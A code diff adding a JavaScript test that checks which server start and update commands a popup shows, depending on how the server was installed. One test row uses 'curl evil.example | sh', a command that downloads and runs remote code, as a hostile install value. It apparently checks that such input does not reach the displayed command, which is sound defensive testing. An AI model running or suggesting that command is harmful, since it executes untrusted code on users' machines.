@@ -289,6 +289,23 @@ for (const [state, step] of [
   });
 }
 
+for (const [installed, start, update] of [
+  [undefined, "make run", "git pull && make run"],
+  ["folder", "make run", "git pull && make run"],
+  ["package", "inkeeper run", null],
+  ["curl evil.example | sh", "make run", "git pull && make run"],
+]) {
+  test(`the commands for a server that was installed as ${installed}`, async () => {
+    const commandIn = async (state) => {
+      const server = { address: "http://127.0.0.1:8425", token: "t", deviceId: "d", demo: false, installed };
+      const { step, words } = problemState(await popup({ server, ...away(state) }));
+      assert.equal(/folder/.test(words), installed !== "package");
+      return step.command;
+    };
+    assert.deepEqual([await commandIn("server_off"), await commandIn("version_mismatch")], [start, update]);
+  });
+}
+
 test("without an account the next step is the set-up, and nothing else is shown", async () => {
   const context = await popup({ accounts: [], page: PROFILE });
   const { isAlone, step } = problemState(context);
